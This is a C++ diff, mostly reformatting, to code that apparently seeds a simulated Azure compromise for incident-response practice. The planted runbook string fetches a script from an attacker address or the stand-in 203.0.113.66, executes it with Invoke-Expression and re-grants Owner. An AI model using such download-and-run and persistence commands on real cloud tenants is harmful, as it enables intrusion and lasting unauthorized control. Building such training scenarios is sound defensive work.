@@ -49,7 +49,8 @@ std::optional<alert::ResourceId> alert_vm(const alert::Alert& a)
   return std::nullopt;
 }
 
-void seed_vm(State& state, const alert::ResourceId& parsed, const std::string& location, const std::string& created)
+void seed_vm(State& state, const alert::ResourceId& parsed, const std::string& location,
+             const std::string& created)
 {
   const std::string group = group_id(lower(parsed.subscription_id), parsed.resource_group);
   const std::string name = parsed.name();
@@ -61,7 +62,8 @@ void seed_vm(State& state, const alert::ResourceId& parsed, const std::string& l
   const bool linux_vm = looks_linux(name);
   // The NSG the VM came with: remote administration open to the internet, the usual
   // finding on a machine that gets compromised.
-  const std::string nsg_id = group + "/providers/Microsoft.Network/networkSecurityGroups/" + name + "-nsg";
+  const std::string nsg_id =
+      group + "/providers/Microsoft.Network/networkSecurityGroups/" + name + "-nsg";
   const Json rule{{"name", linux_vm ? "SSH" : "RDP"},
                   {"properties",
                    {{"priority", 300},
@@ -73,7 +75,8 @@ void seed_vm(State& state, const alert::ResourceId& parsed, const std::string& l
                     {"destinationAddressPrefix", "*"},
                     {"destinationPortRange", linux_vm ? "22" : "3389"}}}};
   Json nsg = make_nsg(state, nsg_id, location, Json::array({rule}));
-  const std::string nic_id = group + "/providers/Microsoft.Network/networkInterfaces/" + name + "-nic";
+  const std::string nic_id =
+      group + "/providers/Microsoft.Network/networkInterfaces/" + name + "-nic";
   Json nic = make_nic(state, nic_id, location, "10.0.0.4");
   nic["properties"]["networkSecurityGroup"] = {{"id", nsg_id}};
   put_resource(state, std::move(nsg));
@@ -85,12 +88,13 @@ void seed_vm(State& state, const alert::ResourceId& parsed, const std::string& l
 }
 
 // An activity-log event of `caller` writing `resource_id` with `operation`.
-Json event(const State& state, const std::string& caller, const std::string& object_id, const std::string& ip,
-           const std::string& when, const std::string& resource_id, const std::string& operation,
-           const std::string& localized)
+Json event(const State& state, const std::string& caller, const std::string& object_id,
+           const std::string& ip, const std::string& when, const std::string& resource_id,
+           const std::string& operation, const std::string& localized)
 {
   const auto id = alert::parse_resource_id(resource_id);
-  const std::string correlation = stable_guid("correlation/" + resource_id + "/" + operation + "/" + when);
+  const std::string correlation =
+      stable_guid("correlation/" + resource_id + "/" + operation + "/" + when);
   const std::string provider = operation.substr(0, operation.find('/'));
   return Json{{"caller", caller},
               {"channels", "Operation"},
@@ -110,20 +114,23 @@ Json event(const State& state, const std::string& caller, const std::string& obj
               {"tenantId", state.config.tenant_id},
               {"httpRequest", {{"clientIpAddress", ip}, {"method", "PUT"}}},
               {"claims",
-               {{"http://schemas.microsoft.com/identity/claims/objectidentifier", object_id}, {"ipaddr", ip}}}};
+               {{"http://schemas.microsoft.com/identity/claims/objectidentifier", object_id},
+                {"ipaddr", ip}}}};
 }
 
 // What an intruder holding a Resource Manager foothold leaves in `subscription`: an Owner
 // role assignment for itself, an Automation account runbook that re-grants it, and a VM
 // nobody ordered (the usual crypto-miner), each logged as the attacker's doing.
-void seed_foothold(State& state, const alert::Alert& a, const std::string& subscription, const std::string& location,
-                   const std::string& attacker, const std::string& upn, const std::string& ip)
+void seed_foothold(State& state, const alert::Alert& a, const std::string& subscription,
+                   const std::string& location, const std::string& attacker, const std::string& upn,
+                   const std::string& ip)
 {
   const std::string group = "rg-automation";
   ensure_group(state, subscription, group, location);
   const std::string scope = "/subscriptions/" + subscription;
   const std::string assignment_name = stable_guid("owner/" + scope + "/" + lower(attacker));
-  if (find_resource(state, scope + "/providers/Microsoft.Authorization/roleAssignments/" + assignment_name)) {
+  if (find_resource(state, scope + "/providers/Microsoft.Authorization/roleAssignments/" +
+                               assignment_name)) {
     return;
   }
   // Made by the attacker at the time its activity-log event says.
@@ -137,10 +144,11 @@ void seed_foothold(State& state, const alert::Alert& a, const std::string& subsc
   }
   const Json& assignment = put_resource(state, std::move(owner));
   state.activity_log.push_back(event(state, upn, attacker, ip, granted, assignment["id"],
-                                     "Microsoft.Authorization/roleAssignments/write", "Create role assignment"));
+                                     "Microsoft.Authorization/roleAssignments/write",
+                                     "Create role assignment"));
 
-  const std::string account_id =
-    group_id(subscription, group) + "/providers/Microsoft.Automation/automationAccounts/aa-operations";
+  const std::string account_id = group_id(subscription, group) +
+                                 "/providers/Microsoft.Automation/automationAccounts/aa-operations";
   put_resource(state, make_automation_account(state, account_id, location));
   Json nightly = make_runbook(state, account_id, "Stop-DevVMs", location,
                               Json{{"description", "Stops the VMs tagged env=dev every night."},
@@ -148,23 +156,29 @@ void seed_foothold(State& state, const alert::Alert& a, const std::string& subsc
                                    {"creationTime", shifted(a.start_time, -150 * 86400)},
                                    {"lastModifiedTime", shifted(a.start_time, -150 * 86400)}});
   state.runbook_contents[lower(nightly["id"].get<std::string>())] =
-    "Connect-AzAccount -Identity | Out-Null\n"
-    "Get-AzVM -Status | Where-Object { $_.Tags['env'] -eq 'dev' } |\n"
-    "  ForEach-Object { Stop-AzVM -Name $_.Name -ResourceGroupName $_.ResourceGroupName -Force }\n";
+      "Connect-AzAccount -Identity | Out-Null\n"
+      "Get-AzVM -Status | Where-Object { $_.Tags['env'] -eq 'dev' } |\n"
+      "  ForEach-Object { Stop-AzVM -Name $_.Name -ResourceGroupName $_.ResourceGroupName -Force "
+      "}\n";
   put_resource(state, std::move(nightly));
   const std::string planted_when = shifted(a.start_time, 5 * 60);
   Json planted = make_runbook(state, account_id, "Update-ModuleCache", location,
-                              Json{{"lastModifiedBy", upn}, {"creationTime", planted_when},
+                              Json{{"lastModifiedBy", upn},
+                                   {"creationTime", planted_when},
                                    {"lastModifiedTime", planted_when}});
   // The script names the attacker's object ID; the IP only when it is an address (the
   // alert is attacker-written, this text is shown to the responder).
-  const bool ip_ok = !ip.empty() && ip.find_first_not_of("0123456789abcdefABCDEF.:") == std::string::npos;
+  const bool ip_ok =
+      !ip.empty() && ip.find_first_not_of("0123456789abcdefABCDEF.:") == std::string::npos;
   state.runbook_contents[lower(planted["id"].get<std::string>())] =
-    "Connect-AzAccount -Identity | Out-Null\n"
-    "$m = Invoke-WebRequest -UseBasicParsing -Uri 'http://" + (ip_ok ? ip : std::string("203.0.113.66")) + "/m.ps1'\n"
-    "Invoke-Expression $m.Content\n"
-    "New-AzRoleAssignment -ObjectId '" + attacker + "' -RoleDefinitionName Owner -Scope '" + scope
-    + "' -ErrorAction SilentlyContinue\n";
+      "Connect-AzAccount -Identity | Out-Null\n"
+      "$m = Invoke-WebRequest -UseBasicParsing -Uri 'http://" +
+      (ip_ok ? ip : std::string("203.0.113.66")) +
+      "/m.ps1'\n"
+      "Invoke-Expression $m.Content\n"
+      "New-AzRoleAssignment -ObjectId '" +
+      attacker + "' -RoleDefinitionName Owner -Scope '" + scope +
+      "' -ErrorAction SilentlyContinue\n";
   state.activity_log.push_back(event(state, upn, attacker, ip, planted_when, planted["id"],
                                      "Microsoft.Automation/automationAccounts/runbooks/write",
                                      "Create or Update an Azure Automation Runbook"));
@@ -172,28 +186,32 @@ void seed_foothold(State& state, const alert::Alert& a, const std::string& subsc
 
   const std::string miner_group = "rg-batch-tmp";
   ensure_group(state, subscription, miner_group, location);
-  const std::string miner = group_id(subscription, miner_group) + "/providers/Microsoft.Compute/virtualMachines/gpu-node-7";
-  const std::string miner_nic = group_id(subscription, miner_group) + "/providers/Microsoft.Network/networkInterfaces/gpu-node-7-nic";
+  const std::string miner = group_id(subscription, miner_group) +
+                            "/providers/Microsoft.Compute/virtualMachines/gpu-node-7";
+  const std::string miner_nic = group_id(subscription, miner_group) +
+                                "/providers/Microsoft.Network/networkInterfaces/gpu-node-7-nic";
   put_resource(state, make_nic(state, miner_nic, location, "10.1.0.4"));
   Json vm = make_vm(state, miner, location, "Linux", {miner_nic});
   vm["properties"]["hardwareProfile"]["vmSize"] = "Standard_NC24ads_A100_v4";
   vm["properties"]["timeCreated"] = shifted(a.start_time, 8 * 60);
   put_vm(state, std::move(vm), "Linux");
   state.activity_log.push_back(event(state, upn, attacker, ip, shifted(a.start_time, 8 * 60), miner,
-                                     "Microsoft.Compute/virtualMachines/write", "Create or Update Virtual Machine"));
+                                     "Microsoft.Compute/virtualMachines/write",
+                                     "Create or Update Virtual Machine"));
 }
 
 } // namespace
 
-void seed_compute_incident(State& state, const alert::Alert& a, const std::string& attacker, const std::string& upn,
-                           const std::string& ip)
+void seed_compute_incident(State& state, const alert::Alert& a, const std::string& attacker,
+                           const std::string& upn, const std::string& ip)
 {
   const std::string location = a.alert_location.empty() ? "westeurope" : a.alert_location;
   if (const auto vm = alert_vm(a)) {
     seed_vm(state, *vm, location, shifted(a.start_time, -120 * 86400));
   }
   if (a.family == alert::Family::resourcemanager) {
-    const std::string subscription = lower(a.subscription_id.empty() ? state.config.subscription_id : a.subscription_id);
+    const std::string subscription =
+        lower(a.subscription_id.empty() ? state.config.subscription_id : a.subscription_id);
     seed_foothold(state, a, subscription, location, attacker, upn, ip);
   }
 }
@@ -207,13 +225,14 @@ void adopt_compute_resource(State& state, const Json& resource)
   const Json* os = nullptr;
   if (resource.contains("properties") && resource["properties"].is_object()) {
     const Json& p = resource["properties"];
-    if (p.contains("storageProfile") && p["storageProfile"].is_object() && p["storageProfile"].contains("osDisk")
-        && p["storageProfile"]["osDisk"].is_object() && p["storageProfile"]["osDisk"].contains("osType")) {
+    if (p.contains("storageProfile") && p["storageProfile"].is_object() &&
+        p["storageProfile"].contains("osDisk") && p["storageProfile"]["osDisk"].is_object() &&
+        p["storageProfile"]["osDisk"].contains("osType")) {
       os = &p["storageProfile"]["osDisk"]["osType"];
     }
   }
   state.vms[lower(resource["id"].get<std::string>())].os =
-    os && os->is_string() && os->get<std::string>() == "Linux" ? "Linux" : "Windows";
+      os && os->is_string() && os->get<std::string>() == "Linux" ? "Linux" : "Windows";
   // A managed OS disk the scenario names but does not state is made beside the VM.
   ensure_os_disk(state, resource);
 }
